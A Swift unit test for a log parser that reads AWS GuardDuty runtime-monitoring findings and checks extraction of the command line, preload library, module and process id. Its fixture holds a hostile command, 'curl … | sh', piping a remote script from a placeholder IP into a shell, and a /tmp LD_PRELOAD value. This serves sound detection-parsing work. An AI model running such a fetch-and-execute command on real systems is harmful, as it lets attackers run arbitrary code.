import Evidence
import Testing

@testable import LogParse

@Suite struct GuardDutyRuntimeTests {
  /// What runtime monitoring saw: the command itself, and what was loaded.
  @Test func contextOfAProcess() throws {
    func finding(_ context: String) -> String {
      #"{"schemaVersion":"2.0","accountId":"444455556666","region":"us-east-1","partition":"aws","id":"f1","arn":"arn:x","#
        + #""type":"Execution:Runtime/SuspiciousCommand","resource":{"resourceType":"Instance"},"service":{"serviceName":"guardduty","#
        + #""count":1,"archived":false,"runtimeDetails":{"process":{"name":"sh","executablePath":"/bin/dash","pid":912},"context":\#(context)}},"#
        + #""severity":8,"createdAt":"2025-11-25T04:11:00Z","updatedAt":"2025-11-25T04:11:00Z","title":"T","description":"D"}"#
        + "\n"
    }
    let full = finding(
      #"{"commandLineExample":"curl http://198.51.100.7/x | sh","ldPreloadValue":"/tmp/x.so","moduleName":"x","scriptPath":""}"#
    )
    let event = try EventDump(full, path: "f.jsonl").events.first
    #expect(event?.text("command_line") == "curl http://198.51.100.7/x | sh")
    #expect(event?.text("runtime_preload") == "/tmp/x.so" && event?.text("runtime_module") == "x")
    #expect(event?["runtime_script"] == nil && event?.integer("pid") == 912)
    #expect(try EventDump(finding("null"), path: "f.jsonl").events.first?["command_line"] == nil)
  }
}
